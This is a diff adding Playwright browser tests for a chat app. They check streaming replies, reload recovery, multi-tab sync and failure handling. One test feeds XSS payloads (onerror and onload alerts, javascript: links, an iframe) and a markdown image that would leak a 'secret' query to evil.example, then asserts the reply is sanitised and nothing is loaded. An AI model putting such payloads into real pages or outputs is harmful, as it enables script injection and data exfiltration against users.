@@ -1,0 +1,116 @@
+"""The page in a real browser: what a person sees while a reply is written."""
+
+import re
+
+from playwright.sync_api import BrowserContext, Locator, Page, expect
+
+from tests.e2e.person import Person
+from tests.fake_model import FakeModel
+from tests.services.programs import Programs
+
+
+def sign_in(page: Page, person: Person) -> None:
+    page.goto("/")
+    form = page.locator("form[data-test=sign-in]")
+    form.get_by_label("Email").fill(person.email)
+    form.get_by_label("Password").fill(person.password)
+    form.get_by_role("button", name="Sign in").click()
+    expect(page.locator("body")).to_have_attribute("data-socket", "online")
+
+
+def write(page: Page, text: str) -> None:
+    box = page.locator("[data-test=composer] textarea")
+    box.fill(text)
+    box.press("Enter")
+
+
+def newest_reply(page: Page) -> Locator:
+    return page.locator("[data-message-id]:not([data-message-type=user])").last
+
+
+def test_a_person_sees_the_reply_being_written_and_reloads_in_the_middle(
+    page: Page, person: Person, fake_model: FakeModel
+) -> None:
+    sign_in(page, person)
+    page.locator("[data-test=new-chat]").click()
+
+    # The placeholder stands there while the model has said nothing
+    write(page, "What is **bold**? fake:chunks=6,first=1500,gate=middle")
+    expect(newest_reply(page)).to_have_attribute("data-status", re.compile("pending|running"))
+    expect(newest_reply(page).locator("[data-test=content]")).to_have_text("")
+    expect(page.locator("[data-test=credits]")).to_have_text("297")
+
+    # Then text appears, before the reply is done
+    content = newest_reply(page).locator("[data-test=content]")
+    expect(content).not_to_have_text("")
+    expect(newest_reply(page)).to_have_attribute("data-status", "running")
+    first_piece = content.inner_text()
+
+    # A reload in the middle shows what is there
+    page.reload()
+    expect(content).to_contain_text(first_piece)
+    expect(newest_reply(page)).to_have_attribute("data-status", "running")
+
+    # And goes on, without losing or doubling any of it
+    expect(page.locator("body")).to_have_attribute("data-socket", "online")
+    fake_model.open_gate("middle")
+    expect(newest_reply(page)).to_have_attribute("data-status", "completed")
+    stored = person.get("/chats")["items"][0]
+    whole = person.get(f"/chats/{stored['id']}/messages?order=desc&limit=1")["items"][0]["content"]
+    assert " ".join(content.inner_text().split()) == " ".join(whole.split())
+
+
+def test_every_open_tab_sees_it(page: Page, person: Person, programs: Programs) -> None:
+    sign_in(page, person)
+    other = page.context.new_page()
+    other.goto("/")  # the session is the browser's: no second sign-in
+    expect(other.locator("body")).to_have_attribute("data-socket", "online")
+
+    page.locator("[data-test=new-chat]").click()
+    write(page, "Hello to all tabs")
+    expect(newest_reply(page)).to_have_attribute("data-status", "completed")
+
+    other.locator("[data-test=chat-list] li").first.locator("a").click()
+    expect(newest_reply(other)).to_have_attribute("data-status", "completed")
+    write(other, "And back")
+    expect(page.locator("[data-message-type=user]").last).to_contain_text("And back")
+    expect(newest_reply(page)).to_contain_text("And back")
+
+
+def test_a_failed_reply_says_so(page: Page, person: Person, fake_model: FakeModel) -> None:
+    sign_in(page, person)
+    page.locator("[data-test=new-chat]").click()
+    write(page, "Hello fake:status=401")
+
+    expect(newest_reply(page)).to_have_attribute("data-status", "failed")
+    expect(newest_reply(page)).to_contain_text("Your credits were returned")
+    expect(page.locator("[data-test=credits]")).to_have_text("300")
+
+
+def test_what_a_model_says_can_run_nothing_and_load_nothing(page: Page, person: Person, programs: Programs) -> None:
+    elsewhere = watch_for_requests_elsewhere(page.context, programs)
+    page.on("dialog", lambda dialog: elsewhere.append(dialog.message))
+    sign_in(page, person)
+    page.locator("[data-test=new-chat]").click()
+
+    # the fake model quotes the question, so this is what it says
+    write(
+        page,
+        "<img src=x onerror=alert(1)> ![data](http://evil.example/?q=secret) [link](javascript:alert(2)) "
+        "<svg onload=alert(3)></svg> <iframe src=http://evil.example></iframe> <a href='http://fine.example'>a</a>",
+    )
+    expect(newest_reply(page)).to_have_attribute("data-status", "completed")
+
+    content = newest_reply(page).locator("[data-test=content]")
+    expect(content).to_contain_text("here it ends")
+    assert content.locator("img, svg, iframe, script, style, form, object, embed").count() == 0
+    assert content.locator("a[href^='javascript']").count() == 0
+    assert elsewhere == []
+
+
+def watch_for_requests_elsewhere(context: BrowserContext, programs: Programs) -> list[str]:
+    """Every address asked for that is not one of the programs'."""
+    elsewhere: list[str] = []
+    ours = (programs.url, programs.realtime_url.replace("http", "ws", 1), programs.realtime_url)
+    context.on("request", lambda request: None if request.url.startswith(ours) else elsewhere.append(request.url))
+    return elsewhere
